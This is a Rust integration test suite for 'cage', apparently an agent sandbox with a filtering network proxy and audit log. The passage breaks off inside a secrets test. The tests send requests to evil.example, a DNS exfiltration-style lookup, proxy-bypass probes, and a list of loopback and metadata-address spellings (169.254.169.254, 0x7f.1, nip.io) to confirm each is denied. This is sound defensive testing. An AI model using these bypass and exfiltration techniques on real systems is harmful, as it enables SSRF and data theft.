//! The network layer end to end: the real `cage` binary in proxy mode, run
//! as an unprivileged user, against servers on the host's 127.0.0.1. Only
//! loopback addresses are ever contacted: every name the tests allow
//! resolves to loopback, and every other name is denied before it is
//! resolved.
//!
//! As root, cage runs as the `cage-test` user (`useradd -m cage-test`)
//! through `setpriv`, from a world-readable copy of the binary.

#![allow(clippy::unwrap_used)]

use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::time::{Duration, Instant};

use serde_json::Value;

const TEST_USER: &str = "cage-test";

fn is_root() -> bool {
    nix::unistd::geteuid().is_root()
}

/// The user cage runs as: `cage-test` when the tests run as root.
fn user_ids() -> Option<(u32, u32)> {
    if !is_root() {
        return None;
    }
    let u = nix::unistd::User::from_name(TEST_USER)
        .unwrap()
        .unwrap_or_else(|| panic!("run as root, these tests need the user {TEST_USER}"));
    Some((u.uid.as_raw(), u.gid.as_raw()))
}

/// A copy of the binary the test user can execute.
fn cage_bin() -> &'static Path {
    static BIN: OnceLock<PathBuf> = OnceLock::new();
    BIN.get_or_init(|| {
        // Copies left by earlier runs (no teardown hook runs after the
        // last test) go once their test process is gone.
        for entry in std::fs::read_dir(std::env::temp_dir()).unwrap().flatten() {
            let name = entry.file_name().to_string_lossy().into_owned();
            if let Some(pid) = name.strip_prefix("cage-net-bin-")
                && !Path::new("/proc").join(pid).exists()
            {
                let _ = std::fs::remove_dir_all(entry.path());
            }
        }
        let dir = std::env::temp_dir().join(format!("cage-net-bin-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
        let bin = dir.join("cage");
        std::fs::copy(env!("CARGO_BIN_EXE_cage"), &bin).unwrap();
        std::fs::set_permissions(&bin, std::fs::Permissions::from_mode(0o755)).unwrap();
        bin
    })
}

/// One test's home and workspace, owned by the user cage runs as.
struct Sandbox {
    root: PathBuf,
    home: PathBuf,
    ws: PathBuf,
}

impl Sandbox {
    fn new(name: &str) -> Sandbox {
        let root = std::env::temp_dir().join(format!("cage-net-{name}-{}", std::process::id()));
        let _ = std::fs::remove_dir_all(&root);
        let (home, ws) = (root.join("home"), root.join("ws"));
        for d in [&root, &home, &ws] {
            std::fs::create_dir_all(d).unwrap();
            std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
        }
        if let Some((uid, gid)) = user_ids() {
            for d in [&home, &ws] {
                std::os::unix::fs::chown(d, Some(uid), Some(gid)).unwrap();
            }
        }
        Sandbox { root, home, ws }
    }

    /// `cage ARGS...` as the test user, in the workspace, with a clean
    /// environment.
    fn command(&self, args: &[&str]) -> Command {
        let mut c = if user_ids().is_some() {
            let mut c = Command::new("setpriv");
            c.args([
                &format!("--reuid={TEST_USER}"),
                &format!("--regid={TEST_USER}"),
                "--clear-groups",
                "--",
            ]);
            c.arg(cage_bin());
            c
        } else {
            Command::new(cage_bin())
        };
        c.args(args)
            .current_dir(&self.ws)
            .env_clear()
            .env("HOME", &self.home)
            .env("PATH", "/usr/bin:/bin")
            .env("LANG", "C.UTF-8");
        c
    }

    /// `cage --net proxy --allow-host A... -- sh -c SCRIPT`, to completion.
    fn run(&self, allow: &[String], script: &str) -> Run {
        let mut args = vec!["--net", "proxy"];
        for a in allow {
            args.extend(["--allow-host", a.as_str()]);
        }
        args.extend(["--", "sh", "-c", script]);
        let out = self.command(&args).stdin(Stdio::null()).output().unwrap();
        Run(out)
    }

    /// A policy file beside the home and workspace, readable by the test
    /// user, for `-f`.
    fn policy(&self, text: &str) -> PathBuf {
        let path = self.root.join("secrets.toml");
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        path
    }

    /// A file in the workspace, readable inside.
    fn file(&self, name: &str, text: &str) {
        let path = self.ws.join(name);
        std::fs::write(&path, text).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
    }

    /// Every record of the only session this sandbox has run.
    fn audit(&self) -> Vec<Value> {
        let sessions = self.home.join(".local/state/cage/sessions");
        let mut dirs: Vec<PathBuf> = std::fs::read_dir(&sessions)
            .unwrap()
            .map(|e| e.unwrap().path())
            .collect();
        assert_eq!(dirs.len(), 1, "one session: {dirs:?}");
        let text = std::fs::read_to_string(dirs.remove(0).join("audit.jsonl")).unwrap();
        text.lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
}

impl Drop for Sandbox {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.root);
    }
}

struct Run(Output);

impl Run {
    fn stdout(&self) -> String {
        String::from_utf8_lossy(&self.0.stdout).into_owned()
    }
    fn stderr(&self) -> String {
        String::from_utf8_lossy(&self.0.stderr).into_owned()
    }
    fn assert_ok(&self) -> &Run {
        assert!(
            self.0.status.success(),
            "cage failed: {:?}\nstdout:\n{}\nstderr:\n{}",
            self.0.status,
            self.stdout(),
            self.stderr()
        );
        self
    }
}

/// An HTTP server on the host's 127.0.0.1 that answers every request with
/// "hello from the host PATH" and counts them.
struct HostServer {
    port: u16,
    hits: Arc<AtomicUsize>,
    paths: Arc<Mutex<Vec<String>>>,
}

impl HostServer {
    fn start() -> HostServer {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let hits = Arc::new(AtomicUsize::new(0));
        let paths = Arc::new(Mutex::new(Vec::new()));
        let (h, p) = (Arc::clone(&hits), Arc::clone(&paths));
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(mut s) = s else { continue };
                let (h, p) = (Arc::clone(&h), Arc::clone(&p));
                std::thread::spawn(move || {
                    let mut got = Vec::new();
                    let mut buf = [0u8; 4096];
                    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                        match s.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => got.extend_from_slice(&buf[..n]),
                        }
                    }
                    let head = String::from_utf8_lossy(&got).into_owned();
                    let path = head.split(' ').nth(1).unwrap_or("").to_string();
                    h.fetch_add(1, Ordering::SeqCst);
                    p.lock().unwrap().push(path.clone());
                    let body = format!("hello from the host {path}\n");
                    let _ = write!(
                        s,
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                });
            }
        });
        HostServer { port, hits, paths }
    }

    fn hits(&self) -> usize {
        self.hits.load(Ordering::SeqCst)
    }
}

fn records<'a>(audit: &'a [Value], event: &str) -> Vec<&'a Value> {
    audit.iter().filter(|r| r["event"] == event).collect()
}

/// Inside the cage, curl must be told to use the proxy for 127.0.0.1:
/// NO_PROXY keeps the cage's own loopback local.
const CURL: &str = "curl -sS --max-time 20 --noproxy ''";

#[test]
fn curl_reaches_an_allowed_host_server_through_http_connect_and_socks5() {
    let server = HostServer::start();
    let sb = Sandbox::new("allowed");
    let port = server.port;
    let run = sb.run(
        &[format!("127.0.0.1:{port}")],
        &format!(
            "{CURL} http://127.0.0.1:{port}/via-http && \
             {CURL} --proxytunnel http://127.0.0.1:{port}/via-connect && \
             {CURL} --proxy socks5://127.0.0.1:3128 http://127.0.0.1:{port}/via-socks5"
        ),
    );
    run.assert_ok();
    let out = run.stdout();
    for via in ["via-http", "via-connect", "via-socks5"] {
        assert!(
            out.contains(&format!("hello from the host /{via}")),
            "{out}"
        );
    }
    assert_eq!(server.hits(), 3);
    let audit = sb.audit();
    let net = records(&audit, "net");
    let protos: Vec<&str> = net.iter().map(|r| r["proto"].as_str().unwrap()).collect();
    assert_eq!(protos, ["http", "connect", "socks5"]);
    for r in &net {
        assert_eq!(r["decision"], "allow");
        assert_eq!(r["addr"], format!("127.0.0.1:{port}"));
        assert_eq!(r["source"], "flag --allow-host");
    }
    let ends = records(&audit, "net_end");
    assert_eq!(ends.len(), 3);
    assert!(ends.iter().all(|e| e["bytes_down"].as_u64().unwrap() > 0));
    assert!(!run.stderr().contains("denied"), "{}", run.stderr());
}

#[test]
fn socks5_by_name_reaches_an_address_an_ip_rule_names() {
    let server = HostServer::start();
    let sb = Sandbox::new("socks-name");
    let port = server.port;
    let run = sb.run(
        &[format!("localhost:{port}"), format!("127.0.0.1:{port}")],
        &format!("{CURL} --proxy socks5h://127.0.0.1:3128 http://localhost:{port}/by-name"),
    );
    run.assert_ok();
    assert!(run.stdout().contains("hello from the host /by-name"));
    let audit = sb.audit();
    let net = records(&audit, "net");
    assert_eq!(net[0]["host"], "localhost");
    assert_eq!(net[0]["decision"], "allow");
}

#[test]
fn unlisted_hosts_and_a_listed_name_resolving_to_loopback_are_denied() {
    let server = HostServer::start();
    let other = HostServer::start();
    let sb = Sandbox::new("denied");
    let (port, unlisted) = (server.port, other.port);
    // Each line prints the status curl saw (403) or its exit code.
    let run = sb.run(
        &[format!("localhost:{port}")],
        &format!(
            "{CURL} -o /dev/null -w 'name %{{http_code}}\\n' http://localhost:{port}/; \
             {CURL} -o /dev/null -w 'unlisted %{{http_code}}\\n' http://127.0.0.1:{unlisted}/; \
             {CURL} -o /dev/null https://evil.example/ 2>/dev/null; echo \"connect exit $?\"; \
             {CURL} --proxy socks5h://127.0.0.1:3128 -o /dev/null http://localhost:{port}/ \
               2>/dev/null; echo \"socks exit $?\"; \
             {CURL} http://localhost:{port}/ | head -c 300"
        ),
    );
    run.assert_ok();
    let out = run.stdout();
    assert!(out.contains("name 403"), "{out}");
    assert!(out.contains("unlisted 403"), "{out}");
    // curl: 56 = CONNECT refused by the proxy; 97 = SOCKS5 request refused.
    assert!(out.contains("connect exit 56"), "{out}");
    assert!(out.contains("socks exit 97"), "{out}");
    assert!(out.contains("loopback"), "the 403 says why: {out}");
    assert_eq!(server.hits() + other.hits(), 0, "nothing reached the host");
    let audit = sb.audit();
    let denied: Vec<(String, String)> = records(&audit, "net")
        .iter()
        .map(|r| {
            assert_eq!(r["decision"], "deny", "{r}");
            (
                format!("{}:{}", r["host"].as_str().unwrap(), r["port"]),
                r["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(denied.len(), 5, "{denied:?}");
    assert!(
        denied[0].1.contains("127.0.0.1, a loopback address"),
        "{denied:?}"
    );
    assert!(denied[1].1.contains("no allow rule"), "{denied:?}");
    assert_eq!(denied[2].0, "evil.example:443");
    // The user hears about it once, at the end.
    let err = run.stderr();
    assert!(
        err.contains(&format!(
            "cage: 3 connections denied: localhost:{port}, 127.0.0.1:{unlisted}, \
             evil.example:443"
        )),
        "{err}"
    );
    assert!(err.contains("--allow-host"), "{err}");
}

#[test]
fn agent_ignoring_the_proxy_cannot_reach_host_loopback() {
    // `allowed` is forwarded into the cage (an explicit IP:port rule); the
    // probe goes for `server`, which no rule names.
    let allowed = HostServer::start();
    let server = HostServer::start();
    let sb = Sandbox::new("bypass");
    let port = server.port;
    sb.file(
        "probe.py",
        &format!(
            r#"
import socket
for addr in [("127.0.0.1", {port}), ("::1", {port})]:
    try:
        socket.create_connection(addr, timeout=5)
        print("connected", addr)
    except OSError as e:
        print("refused", addr[0], e.errno)
"#
        ),
    );
    let run = sb.run(
        &[format!("127.0.0.1:{}", allowed.port)],
        &format!(
            "curl -sS --max-time 5 http://127.0.0.1:{port}/ 2>/dev/null; echo \"curl exit $?\"; \
             python3 probe.py"
        ),
    );
    run.assert_ok();
    let out = run.stdout();
    // NO_PROXY sends curl straight to the cage's own loopback: nothing.
    assert!(out.contains("curl exit 7"), "{out}");
    assert!(out.contains("refused 127.0.0.1 111"), "{out}");
    assert!(!out.contains("connected"), "{out}");
    assert_eq!(server.hits(), 0);
    assert_eq!(allowed.hits(), 0);
}

#[test]
fn explicitly_allowed_host_loopback_port_is_forwarded_and_logged() {
    // Programs skip the proxy for 127.0.0.1 (NO_PROXY); an allow rule that
    // names a host loopback IP and port makes that port reachable inside at
    // the same address, through the supervisor, decided and logged.
    let server = HostServer::start();
    let other = HostServer::start();
    let sb = Sandbox::new("forward");
    let port = server.port;
    let run = sb.run(
        &[format!("127.0.0.1:{port}")],
        &format!(
            "curl -sS --max-time 20 http://127.0.0.1:{port}/plain && \
             curl -sS --max-time 5 http://127.0.0.1:{}/ 2>/dev/null; echo \"other exit $?\"",
            other.port
        ),
    );
    run.assert_ok();
    let out = run.stdout();
    assert!(out.contains("hello from the host /plain"), "{out}");
    assert!(out.contains("other exit 7"), "only the named port: {out}");
    assert_eq!(server.hits(), 1);
    assert_eq!(other.hits(), 0);
    let audit = sb.audit();
    let net = records(&audit, "net");
    assert_eq!(net.len(), 1, "{net:?}");
    assert_eq!(net[0]["proto"], "forward");
    assert_eq!(net[0]["decision"], "allow");
    assert_eq!(net[0]["source"], "flag --allow-host");
}

/// A Python stub-resolver client: one query over UDP or TCP, printing the
/// rcode and the A answers.
const DNS_PROBE: &str = r#"
import socket, struct, sys
def query(name, tcp):
    q = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q += b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0"
    q += struct.pack(">HH", 1, 1)
    if tcp:
        s = socket.create_connection(("127.0.0.1", 53), timeout=5)
        s.sendall(struct.pack(">H", len(q)) + q)
        n = struct.unpack(">H", s.recv(2))[0]
        r = b""
        while len(r) < n:
            r += s.recv(n - len(r))
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(5)
        s.sendto(q, ("127.0.0.1", 53))
        r = s.recv(512)
    rcode = r[3] & 15
    an = struct.unpack(">H", r[6:8])[0]
    ips = [socket.inet_ntoa(r[i - 4:i]) for i in [len(r)]] if an else []
    print(("tcp" if tcp else "udp"), name, "rcode", rcode, "answers", an, *ips)
for name in sys.argv[1:]:
    for tcp in (False, True):
        query(name, tcp)
"#;

#[test]
fn dns_stub_answers_allowed_names_and_refuses_others() {
    let sb = Sandbox::new("dns");
    sb.file("dns.py", DNS_PROBE);
    let host_resolv = std::fs::read("/etc/resolv.conf").unwrap_or_default();
    let run = sb.run(
        &["localhost:8080".to_string(), "127.0.0.1:8080".to_string()],
        "cat /etc/resolv.conf; python3 dns.py localhost exfil-a1b2c3.evil.example; \
         getent ahostsv4 evil.example; echo \"getent exit $?\"",
    );
    run.assert_ok();
    let out = run.stdout();
    assert!(out.starts_with("nameserver 127.0.0.1\n"), "{out}");
    for proto in ["udp", "tcp"] {
        assert!(
            out.contains(&format!("{proto} localhost rcode 0 answers 1 127.0.0.1")),
            "{out}"
        );
        assert!(
            out.contains(&format!(
                "{proto} exfil-a1b2c3.evil.example rcode 5 answers 0"
            )),
            "{out}"
        );
    }
    assert!(out.contains("getent exit 2"), "{out}");
    assert_eq!(
        std::fs::read("/etc/resolv.conf").unwrap_or_default(),
        host_resolv,
        "the host's resolver file is untouched"
    );
    let audit = sb.audit();
    let dns = records(&audit, "dns");
    let allowed: Vec<&&Value> = dns.iter().filter(|r| r["decision"] == "allow").collect();
    assert_eq!(allowed.len(), 2, "{dns:?}");
    assert_eq!(allowed[0]["answers"][0], "127.0.0.1");
    assert!(
        dns.iter()
            .any(|r| r["name"] == "exfil-a1b2c3.evil.example" && r["rcode"] == "REFUSED"),
        "the exfiltration attempt is on record"
    );
    assert!(dns.iter().any(|r| r["proto"] == "tcp"));
}

#[test]
fn audit_log_records_the_session_and_cage_log_prints_it() {
    let server = HostServer::start();
    let sb = Sandbox::new("audit");
    let port = server.port;
    let run = sb.run(
        &[format!("127.0.0.1:{port}")],
        &format!(
            "{CURL} -o /dev/null http://127.0.0.1:{port}/logged; \
             {CURL} -o /dev/null https://evil.example/ 2>/dev/null; \
             getent hosts evil.example; exit 3"
        ),
    );
    assert_eq!(
        run.0.status.code(),
        Some(3),
        "the agent's status passes through"
    );
    let audit = sb.audit();
    assert_eq!(audit[0]["event"], "session_start");
    let start = &audit[0];
    assert_eq!(start["argv"][0], "sh");
    assert_eq!(start["workspace"], sb.ws.to_str().unwrap());
    assert_eq!(start["network"]["mode"], "proxy");
    let e = &start["enforcement"];
    assert_eq!(
        e["namespaces"],
        serde_json::json!(["user", "mnt", "pid", "net", "ipc", "uts", "cgroup"])
    );
    assert!(e["landlock"]["abi"].as_i64().unwrap() >= 0);
    assert!(e["seccomp_filters"].as_u64().unwrap() > 0);
    assert_eq!(e["capabilities_dropped"], true);
    assert_eq!(e["no_new_privs"], true);
    let end = audit.last().unwrap();
    assert_eq!(end["event"], "session_end");
    assert_eq!(end["status"], 3);
    assert_eq!(end["denied_connections"], 1);
    assert_eq!(end["refused_dns"], 1);
    for r in &audit {
        assert!(r["time"].as_str().unwrap().ends_with('Z'), "{r}");
    }
    let allowed = records(&audit, "net")[0];
    let closed = records(&audit, "net_end")[0];
    assert_eq!(allowed["id"], closed["id"]);
    assert!(closed["bytes_up"].as_u64().unwrap() > 0);
    assert!(closed["duration_ms"].is_u64());

    // cage log, from the workspace: the newest session there.
    let log = sb.command(&["log"]).output().unwrap();
    assert!(log.status.success(), "{log:?}");
    let text = String::from_utf8_lossy(&log.stdout);
    for want in [
        "session ".to_string(),
        "enforced   namespaces user mnt pid net ipc uts cgroup".to_string(),
        format!("allow  http     127.0.0.1:{port} -> 127.0.0.1:{port}"),
        "deny   connect  evil.example:443: no allow rule matches".to_string(),
        "dns    udp      evil.example A -> REFUSED".to_string(),
        "end    exit 3".to_string(),
    ] {
        assert!(text.contains(&want), "missing {want:?} in:\n{text}");
    }
    let json = sb.command(&["log", "--json"]).output().unwrap();
    let lines: Vec<Value> = String::from_utf8_lossy(&json.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), audit.len());
    let id = start["session"].as_str().unwrap();
    let by_id = sb
        .command(&["log", &id[..10], "--follow"])
        .output()
        .unwrap();
    assert!(by_id.status.success());
    assert_eq!(
        by_id.stdout, log.stdout,
        "a prefix names the session; follow ends"
    );
    let none = sb.command(&["log", "nope"]).output().unwrap();
    assert_eq!(none.status.code(), Some(125));
}

/// The supervisor's descriptors and memory before and after many
/// connections of every kind. 10,000 as the issue asks; a Python client
/// inside the cage makes them.
#[test]
fn supervisor_descriptors_do_not_grow_after_many_connections() {
    const CONNECTIONS: usize = 10_000;
    let server = HostServer::start();
    let sb = Sandbox::new("fds");
    let port = server.port;
    let client = format!(
        r#"
import os, socket, sys, time
def wait(name):
    while not os.path.exists(name):
        time.sleep(0.02)
def one(kind):
    s = socket.create_connection(("127.0.0.1", 3128))
    if kind == 0:
        s.sendall(b"GET http://127.0.0.1:{port}/n HTTP/1.1\r\nHost: x\r\n\r\n")
    elif kind == 1:
        s.sendall(b"CONNECT evil.example:443 HTTP/1.1\r\n\r\n")
    elif kind == 2:
        s.sendall(b"\x16\x03\x01garbage\r\n\r\n")
    elif kind == 3:
        s.sendall(b"CONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\nGET /t HTTP/1.0\r\n\r\n")
    elif kind == 4:
        s.sendall(b"\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01" + ({port}).to_bytes(2, "big")
                  + b"GET /s HTTP/1.0\r\n\r\n")
    else:
        pass  # connect and hang up at once
    if kind < 5:
        while s.recv(65536):
            pass
    s.close()
one(0)
open("phase1", "w").close()
wait("go1")
for i in range({CONNECTIONS}):
    one(i % 6)
open("phase2", "w").close()
wait("go2")
"#
    );
    sb.file("client.py", &client);
    let child = sb
        .command(&[
            "--net",
            "proxy",
            "--allow-host",
            &format!("127.0.0.1:{port}"),
            "--",
            "python3",
            "client.py",
        ])
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    // setpriv execs cage: the child is the supervisor.
    let pid = child.id();
    let wait_for = |name: &str, limit: Duration| {
        let t = Instant::now();
        while !sb.ws.join(name).exists() {
            assert!(t.elapsed() < limit, "timed out waiting for {name}");
            std::thread::sleep(Duration::from_millis(20));
        }
    };
    // (descriptors, of which pipes): idle proxy threads keep their splice
    // pipe for the next tunnel, at most 8 threads of two ends each; its
    // standard output and error are pipes too.
    let fds_and_pipes = || {
        let fds: Vec<_> = std::fs::read_dir(format!("/proc/{pid}/fd"))
            .unwrap()
            .filter_map(|e| std::fs::read_link(e.ok()?.path()).ok())
            .collect();
        let pipes = fds
            .iter()
            .filter(|l| l.to_string_lossy().starts_with("pipe:"))
            .count();
        (fds.len(), pipes)
    };
    let fds = || {
        let (all, pipes) = fds_and_pipes();
        all - pipes
    };
    let rss_kib = || {
        let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
        status
            .lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse::<u64>().ok())
            .unwrap()
    };
    wait_for("phase1", Duration::from_secs(30));
    // The warm-up connection's thread may still be closing.
    std::thread::sleep(Duration::from_millis(700));
    let (fds_before, rss_before) = (fds(), rss_kib());
    let pipes_before = fds_and_pipes().1;
    std::fs::write(sb.ws.join("go1"), "").unwrap();
    let started = Instant::now();
    wait_for("phase2", Duration::from_secs(120));
    let took = started.elapsed();
    // Let the last connections' threads finish.
    let settle = Instant::now();
    while fds() > fds_before && settle.elapsed() < Duration::from_secs(5) {
        std::thread::sleep(Duration::from_millis(20));
    }
    let (fds_after, rss_after) = (fds(), rss_kib());
    let pipes_after = fds_and_pipes().1;
    std::fs::write(sb.ws.join("go2"), "").unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "{out:?}");
    eprintln!(
        "{CONNECTIONS} connections in {took:?}; fds {fds_before} -> {fds_after}; \
         VmRSS {rss_before} -> {rss_after} KiB"
    );
    assert!(
        fds_after <= fds_before,
        "descriptors other than pipes leaked: {fds_before} -> {fds_after}"
    );
    assert!(
        pipes_after <= pipes_before + 16,
        "pipes {pipes_before} -> {pipes_after}: more than 8 idle threads' pipes kept"
    );
    assert!(
        rss_after < rss_before + 8 * 1024,
        "memory grew: {rss_before} -> {rss_after} KiB"
    );
    // Every kind was served: the allowed ones reached the host.
    let n = CONNECTIONS / 6;
    assert!(server.hits() >= 3 * n, "{} hits", server.hits());
    let paths = server.paths.lock().unwrap();
    for p in ["/n", "/t", "/s"] {
        assert!(paths.iter().any(|x| x == p), "no {p}");
    }
}

/// The check the issue names: with only example.com allowed, no spelling
/// of the host's loopback gets through the proxy, by any protocol. (No
/// request names example.com itself, so nothing leaves the machine.)
#[test]
fn no_spelling_of_host_loopback_gets_through_the_proxy() {
    let server = HostServer::start();
    let sb = Sandbox::new("spellings");
    let port = server.port;
    sb.file(
        "probe.py",
        &format!(
            r#"
import socket
port = {port}
targets = ["127.0.0.1", "localhost", "[::1]", "0.0.0.0", "127.1", "2130706433",
           "0x7f.1", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "LOCALHOST.", "[::]",
           "169.254.169.254", "example.com.127.0.0.1.nip.io"]
def ask(raw):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(raw)
    got = b""
    while True:
        d = s.recv(4096)
        if not d:
            break
        got += d
    return got
for t in targets:
    for raw in [b"CONNECT %s:%d HTTP/1.1\r\n\r\n" % (t.encode(), port),
                b"GET http://%s:%d/ HTTP/1.1\r\n\r\n" % (t.encode(), port)]:
        print(t, ask(raw).split(b"\r\n")[0].decode())
# SOCKS5 by IPv4, IPv6 and name.
for atyp, addr in [(1, bytes([127, 0, 0, 1])), (4, bytes(15) + b"\x01"),
                   (3, bytes([9]) + b"localhost")]:
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"\x05\x01\x00")
    s.recv(2)
    s.sendall(bytes([5, 1, 0, atyp]) + addr + port.to_bytes(2, "big"))
    print("socks", atyp, "reply", s.recv(10)[1])
"#
        ),
    );
    let run = sb.run(&["example.com".to_string()], "python3 probe.py");
    run.assert_ok();
    let out = run.stdout();
    let lines: Vec<&str> = out.lines().collect();
    assert_eq!(lines.len(), 13 * 2 + 3, "{out}");
    for line in &lines {
        if line.starts_with("socks") {
            assert!(line.ends_with("reply 2"), "not allowed by ruleset: {line}");
        } else {
            // 403 denied, or 400 for what is not a host name at all.
            assert!(
                line.ends_with("403 Forbidden") || line.ends_with("400 Bad Request"),
                "{line}"
            );
        }
    }
    assert_eq!(server.hits(), 0, "nothing reached the host's loopback");
}

// ---- secrets (issue 13) ----

/// A test CA, made now, and a TLS server on the host's 127.0.0.1 with a
/// leaf from it. Each connection: one request head, recorded; the answer
/// echoes the head back (a host that echoes must not hand a secret back).
struct TlsServer {
    port: u16,
    heads: Arc<Mutex<Vec<String>>>,
    /// The first KiB of each request's body.
    bodies: Arc<Mutex<Vec<String>>>,
}

struct TestCa {
    issuer: rcgen::Issuer<'static, rcgen::KeyPair>,
    pem: String,
}

impl TestCa {
    fn new() -> TestCa {
        let key = rcgen::KeyPair::generate().unwrap();
        let mut params = rcgen::CertificateParams::new(Vec::<String>::new()).unwrap();
        params.is_ca = rcgen::IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
        params
            .distinguished_name
            .push(rcgen::DnType::CommonName, "cage test CA");
        let cert = params.self_signed(&key).unwrap();
        TestCa {
            pem: cert.pem(),
            issuer: rcgen::Issuer::new(params, key),
        }
    }

    /// The CA's PEM in a file the test user can read.
    fn write(&self, dir: &Path) -> PathBuf {
        let path = dir.join("test-ca.pem");
        std::fs::write(&path, &self.pem).unwrap();
        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o644)).unwrap();
        path
    }
}

impl TlsServer {
    fn start(ca: &TestCa) -> TlsServer {
        let key = rcgen::KeyPair::generate().unwrap();
        let params = rcgen::CertificateParams::new(vec!["127.0.0.1".to_string()]).unwrap();
        let cert = params.signed_by(&key, &ca.issuer).unwrap();
        let der = rustls_pki_types::PrivateKeyDer::from(
            rustls_pki_types::PrivatePkcs8KeyDer::from(key.serialize_der()),
        );
        let config = Arc::new(
            rustls::ServerConfig::builder_with_provider(Arc::new(
                rustls::crypto::ring::default_provider(),
            ))
            .with_safe_default_protocol_versions()
            .unwrap()
            .with_no_client_auth()
            .with_single_cert(vec![cert.der().clone()], der)
            .unwrap(),
        );
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let heads = Arc::new(Mutex::new(Vec::new()));
        let bodies = Arc::new(Mutex::new(Vec::new()));
        let (h, bs) = (Arc::clone(&heads), Arc::clone(&bodies));
        std::thread::spawn(move || {
            for s in l.incoming() {
                let Ok(s) = s else { continue };
                let (h, bs, config) = (Arc::clone(&h), Arc::clone(&bs), Arc::clone(&config));
                std::thread::spawn(move || {
                    let _ = s.set_read_timeout(Some(Duration::from_secs(20)));
                    let conn = rustls::ServerConnection::new(config).unwrap();
                    let mut tls = rustls::StreamOwned::new(conn, s);
                    let mut got = Vec::new();
                    let mut buf = [0u8; 4096];
                    while !got.windows(4).any(|w| w == b"\r\n\r\n") {
                        match tls.read(&mut buf) {
                            Ok(0) | Err(_) => return,
                            Ok(n) => got.extend_from_slice(&buf[..n]),
                        }
                    }
                    let end = got.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
                    let head = String::from_utf8_lossy(&got[..end]).into_owned();
                    let length: usize = head
                        .lines()
                        .find_map(|l| {
                            l.to_ascii_lowercase()
                                .strip_prefix("content-length:")
                                .map(|v| v.trim().parse().unwrap())
                        })
                        .unwrap_or(0);
                    let mut body_len = got.len() - end;
                    let mut body = got[end..].to_vec();
                    while body_len < length {
                        match tls.read(&mut buf) {
                            Ok(0) | Err(_) => break,
                            Ok(n) => {
                                body_len += n;
                                if body.len() < 1024 {
                                    body.extend_from_slice(&buf[..n]);
                                }
                            }
                        }
                    }
                    body.truncate(1024);
                    bs.lock()
                        .unwrap()
                        .push(String::from_utf8_lossy(&body).into_owned());
                    h.lock().unwrap().push(head.clone());
                    let body = format!("you sent {body_len} bytes of body and:\n{head}");
                    let _ = write!(
                        tls,
                        "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                    tls.conn.send_close_notify();
                    let _ = tls.flush();
                });
            }
        });
        TlsServer {
            port,
            heads,
            bodies,
        }
    }

    fn bodies(&self) -> Vec<String> {
        self.bodies.lock().unwrap().clone()
    }

    fn heads(&self) -> Vec<String> {
        self.heads.lock().unwrap().clone()
    }
}

/// Standard base64, for Basic credentials.
fn base64(bytes: &[u8]) -> String {
    const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in bytes.chunks(3) {
        let n = (c[0] as u32) << 16
            | (*c.get(1).unwrap_or(&0) as u32) << 8
            | *c.get(2).unwrap_or(&0) as u32;
        for i in 0..4 {
            out.push(if i <= c.len() {
                A[(n >> (18 - 6 * i) & 63) as usize] as char
            } else {
                '='
            });
        }
    }
    out
}

const REAL_KEY: &str = "sk-real-7hQ2xVb9Lm4Kp8Zr3Tn6Wc1Yd5Fg0Js";
const OTHER_KEY: &str = "ghp_realOtherToken0123456789abcdefABCD";

#[test]
fn a_secret_reaches_its_host_only_and_never_enters_the_cage() {
    let ca = TestCa::new();
    let good = TlsServer::start(&ca);
    let other = TlsServer::start(&ca);
    let plain = HostServer::start();
    let sb = Sandbox::new("secrets");
    let ca_file = ca.write(&sb.root);
    let (a, b, p) = (good.port, other.port, plain.port);
    // Through the proxy (HTTPS_PROXY) for each server, and directly to a
    // forwarded port (programs skip the proxy for loopback).
    // The value is searched for in two halves joined at run time, so the
    // script's own command line does not hold it; the joined pattern goes
    // to grep in a file (the shell's printf is a builtin), so no program's
